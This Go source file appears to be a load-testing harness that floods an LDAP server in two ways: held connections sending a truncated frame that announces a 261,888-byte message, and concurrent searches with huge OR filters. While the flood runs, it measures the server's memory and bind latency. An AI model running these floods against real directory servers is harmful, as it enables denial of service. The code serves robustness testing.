package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/go-ldap/ldap/v3"
)

// floodOptions are the -flood modes' settings.
type floodOptions struct {
	mode     string        // "partial" or "or"
	conns    int           // partial: connections opened; or: connections searching
	per      int           // or: searches in flight on each connection
	terms    int           // or: member terms in each filter
	duration time.Duration // how long the flood lasts (or), or is held (partial)
	pid      int           // the server's process, for its resident memory
	probeDN  string        // who binds during the flood
	probePW  string
	floodDN  string // or: who searches
	floodPW  string
	// probeDial connects the probe, from another source address than
	// the flood's.
	probeDial func() (*ldap.Conn, error)
}

// partialFrame announces a 261,888-byte LDAPMessage and sends nothing
// more: a server that allocates what is announced holds a quarter of a
// megabyte for these five bytes.
var partialFrame = []byte{0x30, 0x83, 0x03, 0xff, 0x00}

// flood runs one flood mode against the server at u and prints what the
// server's memory did and how long a legitimate bind took meanwhile.
func flood(u, base string, dial func() (*ldap.Conn, error), names []string, o floodOptions) {
	switch o.mode {
	case "partial":
		floodPartial(u, dial, o)
	case "or":
		floodOr(base, dial, names, o)
	default:
		fail("-flood %q: want partial or or", o.mode)
	}
}

func floodPartial(u string, dial func() (*ldap.Conn, error), o floodOptions) {
	pu, err := url.Parse(u)
	if err != nil || pu.Scheme != "ldap" {
		fail("-flood partial needs an ldap:// URL")
	}
	fmt.Printf("flood=partial conns=%d frame=% x\n", o.conns, partialFrame)
	fmt.Printf("server before: %s\n", rss(o.pid))
	var held []net.Conn
	refusedDial := 0
	for i := 0; i < o.conns; i++ {
		c, err := net.DialTimeout("tcp", pu.Host, 5*time.Second)
		if err != nil {
			refusedDial++
			continue
		}
		c.Write(partialFrame)
		held = append(held, c)
	}
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	time.Sleep(2 * time.Second) // let the server read what was sent
	fmt.Printf("server during: %s\n", rss(o.pid))
	probeBinds(dial, o, 5)
	// A connection the server refused or closed reads EOF at once.
	open := 0
	for _, c := range held {
		c.SetReadDeadline(time.Now().Add(time.Millisecond))
		buf := make([]byte, 512)
		_, err := c.Read(buf)
		var ne net.Error
		if errors.As(err, &ne) && ne.Timeout() {
			open++
		}
	}
	fmt.Printf("connections dialled=%d still open at the server=%d (dial errors %d)\n", len(held), open, refusedDial)
	if rest := o.duration - 2*time.Second; rest > 0 {
		time.Sleep(rest)
		open = 0
		for _, c := range held {
			c.SetReadDeadline(time.Now().Add(time.Millisecond))
			_, err := c.Read(make([]byte, 512))
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				open++
			}
		}
		fmt.Printf("after %s: still open=%d; server: %s\n", o.duration, open, rss(o.pid))
	}
}

func floodOr(base string, dial func() (*ldap.Conn, error), names []string, o floodOptions) {
	var b strings.Builder
	b.WriteString("(|")
	for i := 0; i < o.terms; i++ {
		fmt.Fprintf(&b, "(member=uid=%s,ou=people,%s)", ldap.EscapeFilter(names[i%len(names)]), base)
	}
	b.WriteString(")")
	filter := b.String()
	fmt.Printf("flood=or conns=%d per-conn=%d terms=%d filter-bytes=%d duration=%s\n", o.conns, o.per, o.terms, len(filter), o.duration)
	fmt.Printf("server before: %s\n", rss(o.pid))
	ctx, cancel := context.WithTimeout(context.Background(), o.duration)
	defer cancel()
	var (
		wg      sync.WaitGroup
		mu      sync.Mutex
		results = map[string]int{}
		lat     []time.Duration
		sent    atomic.Int64
	)
	for i := 0; i < o.conns; i++ {
		l, err := dial()
		if err != nil {
			fail("flood dial: %v", err)
		}
		defer l.Close()
		if err := l.Bind(o.floodDN, o.floodPW); err != nil {
			fail("flood bind: %v", err)
		}
		for j := 0; j < o.per; j++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for ctx.Err() == nil {
					t0 := time.Now()
					sent.Add(1)
					_, err := l.Search(ldap.NewSearchRequest("ou=groups,"+base, ldap.ScopeWholeSubtree, ldap.NeverDerefAliases,
						0, 0, false, filter, []string{"cn"}, nil))
					word := "success"
					var le *ldap.Error
					switch {
					case errors.As(err, &le):
						word = ldap.LDAPResultCodeMap[le.ResultCode]
					case err != nil:
						word = "error: " + err.Error()
					}
					mu.Lock()
					results[word]++
					lat = append(lat, time.Since(t0))
					mu.Unlock()
					if err != nil && !errors.As(err, &le) {
						return
					}
				}
			}()
		}
	}
	time.Sleep(time.Second) // the flood is under way
	probeCtx, stopProbe := context.WithCancel(ctx)
	var probes []time.Duration
	var probeWG sync.WaitGroup
	probeWG.Add(1)
	go func() {
		defer probeWG.Done()
		for probeCtx.Err() == nil {
			if d, ok := probeBind(dial, o); ok {
				probes = append(probes, d)
			}
			select {
			case <-probeCtx.Done():
			case <-time.After(500 * time.Millisecond):
			}
		}
	}()
	<-ctx.Done()
	stopProbe()
	probeWG.Wait()
	fmt.Printf("server during: %s\n", rss(o.pid))
	// Searches still running on the server are not waited for: closing
	// the connections abandons them.
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
	}
	mu.Lock()
	slices.Sort(lat)
	fmt.Printf("searches sent=%d answered=%d results=%v search p50=%s max=%s\n", sent.Load(), len(lat), results, pick(lat, 50), pick(lat, 100))
	mu.Unlock()
	slices.Sort(probes)
	fmt.Printf("binds during the flood: n=%d p50=%s max=%s all=%v\n", len(probes), pick(probes, 50), pick(probes, 100), roundAll(probes))
}

// probeBinds binds n times, one after the other, and prints each latency.
func probeBinds(dial func() (*ldap.Conn, error), o floodOptions, n int) {
	var ds []time.Duration
	for i := 0; i < n; i++ {
		if d, ok := probeBind(dial, o); ok {
			ds = append(ds, d)
		}
	}
	slices.Sort(ds)
	fmt.Printf("binds during the flood: n=%d/%d p50=%s max=%s all=%v\n", len(ds), n, pick(ds, 50), pick(ds, 100), roundAll(ds))
}

// probeBind connects and binds as the probe account, timing both.
func probeBind(dial func() (*ldap.Conn, error), o floodOptions) (time.Duration, bool) {
	t0 := time.Now()
	l, err := o.probeDial()
	if err != nil {
		fmt.Printf("probe dial: %v\n", err)
		return 0, false
	}
	defer l.Close()
	l.SetTimeout(60 * time.Second)
	if err := l.Bind(o.probeDN, o.probePW); err != nil {
		fmt.Printf("probe bind: %v\n", err)
		return 0, false
	}
	return time.Since(t0), true
}

func pick(ds []time.Duration, p int) time.Duration {
	if len(ds) == 0 {
		return 0
	}
	return ds[min(len(ds)-1, len(ds)*p/100)].Round(time.Millisecond)
}

func roundAll(ds []time.Duration) []time.Duration {
	out := make([]time.Duration, len(ds))
	for i, d := range ds {
		out[i] = d.Round(time.Millisecond)
	}
	return out
}

// rss reads a process's resident memory now and at its peak.
func rss(pid int) string {
	if pid == 0 {
		return "(no -pid)"
	}
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return err.Error()
	}
	var now, peak string
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			now = strings.TrimSpace(v)
		}
		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			peak = strings.TrimSpace(v)
		}
	}
	return "RSS " + now + " (peak " + peak + ")"
}
